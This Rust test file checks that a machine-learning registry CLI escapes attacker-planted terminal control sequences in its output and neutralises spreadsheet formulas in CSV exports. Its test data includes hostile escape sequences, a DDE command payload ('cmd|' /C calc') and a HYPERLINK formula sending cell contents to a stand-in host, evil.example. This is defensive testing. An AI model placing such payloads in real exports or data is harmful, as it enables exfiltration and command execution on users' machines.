//! What leaves the CLI is safe for what reads it next: text stored in a registry (written
//! there by an attacker with nothing but SQL) reaches the terminal with its control
//! characters escaped, in every table, report, error and `--json` output; CSV written for
//! people (`log export`, `dataset pull --escape-formulas`) neutralises cells a spreadsheet
//! would run as formulas, while plain `dataset pull` keeps exact round trips. (The page's log
//! export is the same core function, `log::to_csv`: npm/test/log-csv.test.mjs compares it
//! with `log export` byte for byte.)

use serde_json::Value;

mod common;
use common::*;

/// Window title, bell, clear screen, an 8-bit CSI (U+009B), DEL, a right-to-left override
/// and an isolate: what an attacker would put in a name.
const HOSTILE: &str = "\x1b]0;pwned\x07\x1b[2J\u{9b}31m\x7f\u{202e}\u{2066}";

/// How [`HOSTILE`] is shown once escaped.
const SHOWN: &str = "\\x1b]0;pwned\\x07\\x1b[2J\\u{9b}31m\\x7f\\u{202e}\\u{2066}";

/// The characters a terminal would act on, found raw in `text` (newline and tab are text).
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c < ' ' && c != '\n' && c != '\t')
                || ('\x7f'..='\u{9f}').contains(&c)
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .collect()
}

const IRIS_RECORD: &str = r#""sepal length (cm)": 5.1, "sepal width (cm)": 3.5, "petal length (cm)": 1.4, "petal width (cm)": 0.2"#;

/// A registry made by the CLI (iris, a model, one logged call of two records), then altered
/// with SQL: `HOSTILE` in a dataset name and description, a column name, a model name and
/// description, and the logged reference ids.
fn hostile_registry() -> Tmp {
    let t = Tmp::with_iris_lr();
    let records = format!(
        r#"[{{"reference_id": "a", {IRIS_RECORD}}}, {{"reference_id": "b", {IRIS_RECORD}}}]"#
    );
    t.run_in(
        &["predict", "--model", "iris-lr", "--log"],
        Some(records.as_bytes()),
    )
    .ok();
    let conn = rusqlite::Connection::open(&t.db).unwrap();
    let set = |sql: &str, text: String| {
        assert_eq!(conn.execute(sql, [text]).unwrap(), 1, "{sql}");
    };
    set(
        "UPDATE datasets SET name = ?1 WHERE id = 1",
        format!("iris{HOSTILE}"),
    );
    set(
        "UPDATE datasets SET description = ?1 WHERE id = 1",
        format!("desc{HOSTILE}"),
    );
    set(
        "UPDATE dataset_columns SET column_name = ?1 WHERE column_name = 'target'",
        format!("tgt{HOSTILE}"),
    );
    // The data table's column too, or opening refuses the file as altered.
    conn.execute_batch(&format!(
        "ALTER TABLE data_1 RENAME COLUMN target TO \"tgt{HOSTILE}\""
    ))
    .unwrap();
    set(
        "UPDATE models SET name = ?1 WHERE id = 1",
        format!("evil{HOSTILE}"),
    );
    set(
        "UPDATE models SET description = ?1 WHERE id = 1",
        format!("mdesc{HOSTILE}"),
    );
    set(
        "UPDATE prediction_records SET reference_id = ?1 WHERE position = 0",
        format!("ref{HOSTILE}"),
    );
    t
}

/// Runs `args` on the hostile registry; checks that neither stdout nor stderr holds a raw
/// control character and that nothing panicked; returns (stdout, stderr).
fn shown(t: &Tmp, args: &[&str]) -> (String, String) {
    let run = t.run(args);
    for (what, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let raw = raw_controls(text);
        assert!(
            raw.is_empty(),
            "`mlops-lite {}` wrote raw control characters {raw:?} on {what}:\n{text}",
            run.args
        );
    }
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    (run.stdout, run.stderr)
}

#[test]
fn stored_control_characters_are_escaped_in_tables_reports_and_errors() {
    let t = hostile_registry();
    let (out, _) = shown(&t, &["dataset", "list"]);
    assert!(out.contains(&format!("| iris{SHOWN} ")), "{out}");
    assert!(out.contains(&format!("| desc{SHOWN} ")), "{out}");
    let (out, _) = shown(&t, &["dataset", "info", "1"]);
    assert!(out.contains(&format!("| tgt{SHOWN} ")), "{out}");
    let (out, _) = shown(&t, &["model", "list"]);
    assert!(out.contains(&format!("| evil{SHOWN} ")), "{out}");
    assert!(out.contains(&format!("| mdesc{SHOWN} ")), "{out}");
    let (out, _) = shown(&t, &["model", "info", "1"]);
    assert!(
        out.starts_with(&format!("model evil{SHOWN}@1 (id 1)")),
        "{out}"
    );
    let (out, _) = shown(&t, &["log", "list"]);
    assert!(out.contains(&format!("| evil{SHOWN}@1 ")), "{out}");
    assert!(out.contains(&format!("| ref{SHOWN} ")), "{out}");
    // The altered column name no longer matches the dataset's md5: verify reports it, and
    // the errors that name the dataset show its name escaped, on one line.
    let (out, err) = shown(&t, &["verify"]);
    // verify quotes stored names itself (Rust-style escapes), so nothing raw reaches it.
    assert!(out.contains("dataset \"iris\\u{1b}]0;pwned\\u{7}"), "{out}");
    assert!(err.starts_with("error: "), "{err}");
    for args in [
        &["dataset", "pull", "1"][..],
        &["reproduce", "1"],
        &[
            "model",
            "train",
            "--dataset",
            "1",
            "--target",
            "target",
            "--name",
            "m2",
        ],
    ] {
        let (_, err) = shown(&t, args);
        assert!(
            err.contains(&format!("iris{SHOWN}@1")) && err.lines().count() == 1,
            "{args:?}: {err}"
        );
    }
    let copy = t.path("copy.db");
    shown(&t, &["copy", "--from", &t.db(), "--to", &s(&copy)]);
    shown(
        &t,
        &["log", "show", "--reference-id", &format!("ref{HOSTILE}")],
    );
}

#[test]
fn json_output_has_no_raw_control_character_and_keeps_the_values() {
    let t = hostile_registry();
    let json = |args: &[&str]| -> Value {
        let (out, _) = shown(&t, args);
        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{args:?}: {e}\n{out}"))
    };
    let datasets = json(&["--json", "dataset", "list"]);
    assert_eq!(datasets[0]["name"], format!("iris{HOSTILE}"));
    assert_eq!(datasets[0]["description"], format!("desc{HOSTILE}"));
    let info = json(&["--json", "dataset", "info", "1"]);
    assert_eq!(info[4]["column_name"], format!("tgt{HOSTILE}"));
    let models = json(&["--json", "model", "list"]);
    assert_eq!(models[0]["name"], format!("evil{HOSTILE}"));
    assert_eq!(models[0]["description"], format!("mdesc{HOSTILE}"));
    for args in [
        &["--json", "log", "list"][..],
        &["log", "show"],
        &["log", "export", "--format", "json"],
    ] {
        let log = json(args);
        assert_eq!(log[0]["reference_id"], format!("ref{HOSTILE}"), "{args:?}");
        assert_eq!(log[0]["model_name"], format!("evil{HOSTILE}"), "{args:?}");
    }
}

/// Reference ids a spreadsheet would run as formulas, and ones it would not.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1,2",
];
const NOT_FORMULAS: [&str; 4] = ["-5", "+1.5e3", "plain", "a=b"];

#[test]
fn log_export_csv_neutralises_formula_cells_and_keeps_numbers() {
    let (t, ids) = formula_log();
    let out_path = t.path("log.csv");
    for csv_text in [t.ok(&["log", "export"]), {
        t.ok(&["log", "export", "--out", &s(&out_path)]);
        std::fs::read_to_string(&out_path).unwrap()
    }] {
        // Quoted, with the quote inside the cell.
        assert!(
            csv_text.contains(",\"'=1+2\",1,\"'@SUM(A1:A2)\","),
            "{csv_text}"
        );
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), ids.len());
        for (row, id) in rows.iter().zip(&ids) {
            assert_eq!(&row[3], "'=1+2");
            let expected = if FORMULAS.contains(id) {
                format!("'{id}")
            } else {
                id.to_string()
            };
            assert_eq!(&row[5], expected);
            // Numbers stay numbers.
            assert!(row[0].parse::<i64>().is_ok() && row[4].parse::<i64>().is_ok());
        }
    }
}

/// A registry whose log holds every reference id of [`FORMULAS`] and [`NOT_FORMULAS`], and a
/// model whose name an attacker set to `=1+2`; the ids in the order logged.
fn formula_log() -> (Tmp, Vec<&'static str>) {
    let t = Tmp::with_iris();
    t.ok(&[
        "model",
        "train",
        "--dataset",
        "iris",
        "--target",
        "target",
        "--name",
        "iris-lr",
    ]);
    let ids: Vec<&str> = FORMULAS.iter().chain(&NOT_FORMULAS).copied().collect();
    let records: Vec<String> = ids
        .iter()
        .map(|id| {
            format!(
                "{{\"reference_id\": {}, {IRIS_RECORD}}}",
                serde_json::to_string(id).unwrap()
            )
        })
        .collect();
    t.run_in(
        &["predict", "--model", "iris-lr", "--log"],
        Some(format!("[{}]", records.join(",")).as_bytes()),
    )
    .ok();
    let conn = rusqlite::Connection::open(&t.db).unwrap();
    conn.execute("UPDATE models SET name = '=1+2' WHERE id = 1", [])
        .unwrap();
    (t, ids)
}

#[test]
fn dataset_pull_round_trips_exactly_and_escapes_formulas_on_request() {
    let t = Tmp::new();
    let csv_text = "n,x,s\n-1,-0.5,=1+2\n2,1.5,@SUM(A1)\n-3,,-4\n4,2.0,\"+a,b\"\n5,3.0,plain\n";
    let file = t.write("f.csv", csv_text);
    t.ok(&["dataset", "add", &file, "--name", "f"]);
    assert_eq!(t.ok(&["dataset", "pull", "f"]), csv_text);
    assert_eq!(
        t.ok(&["dataset", "pull", "f", "--escape-formulas"]),
        "n,x,s\n-1,-0.5,\"'=1+2\"\n2,1.5,\"'@SUM(A1)\"\n-3,,-4\n4,2.0,\"'+a,b\"\n5,3.0,plain\n"
    );
    let out = t.path("f-out.csv");
    t.ok(&[
        "dataset",
        "pull",
        "f",
        "--escape-formulas",
        "--out",
        &s(&out),
    ]);
    assert!(std::fs::read_to_string(&out).unwrap().contains("\"'=1+2\""));
    let before = db_state(&t.db);
    let err = t.fails(&[
        "dataset",
        "pull",
        "f",
        "--escape-formulas",
        "--format",
        "json",
    ]);
    assert!(
        err.contains("--escape-formulas is for CSV output") && err.contains("--format csv"),
        "{err}"
    );
    assert_eq!(db_state(&t.db), before);
}

/// Runs `mlops-lite --db DB ARGS` with standard output on a terminal (a pseudo-terminal of
/// util-linux's `script`); returns what the terminal received, its CR LF line ends as LF.
fn on_terminal(t: &Tmp, args: &str) -> String {
    let mut cmd = std::process::Command::new("script");
    cmd.args([
        "-qec",
        &format!("'{BIN}' --db '{}' {args}", t.db()),
        "/dev/null",
    ]);
    let run = run_command(cmd, t.dir.path(), format!("script: {args}"), None);
    assert!(
        run.code == Some(0),
        "`script` (util-linux) must be installed to run this test: {run:?}",
        run = (run.code, &run.stderr)
    );
    run.stdout.replace("\r\n", "\n")
}

#[test]
fn data_is_exact_in_a_pipe_and_escaped_on_a_terminal() {
    let t = hostile_registry();
    let file = t.write("v.json", r#"[{"s": "a\u001b]0;x\u0007b\u009b"}]"#);
    t.ok(&["dataset", "add", &file, "--name", "v"]);
    // In a pipe: the exact data.
    assert!(t
        .ok(&["log", "export"])
        .contains(&format!(",ref{HOSTILE},")));
    assert_eq!(t.ok(&["dataset", "pull", "v"]), "s\na\x1b]0;x\x07b\u{9b}\n");
    // JSON escapes every control character, in a pipe too: the same value, no raw byte.
    let json = t.ok(&["dataset", "pull", "v", "--format", "json"]);
    assert!(raw_controls(&json).is_empty(), "{json:?}");
    let value: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(value[0]["s"], "a\x1b]0;x\x07b\u{9b}");
    // On a terminal: shown like text.
    for (args, shown_as) in [
        ("log export", format!(",ref{SHOWN},")),
        ("log export --format json", "ref\\u001b]0;pwned".to_string()),
        ("dataset pull v", "s\na\\x1b]0;x\\x07b\\u{9b}\n".to_string()),
        (
            "dataset pull v --format json",
            "a\\u001b]0;x\\u0007b\\u009b".to_string(),
        ),
    ] {
        let out = on_terminal(&t, args);
        assert!(raw_controls(&out).is_empty(), "{args}: {out:?}");
        assert!(out.contains(&shown_as), "{args}: {out}");
    }
}
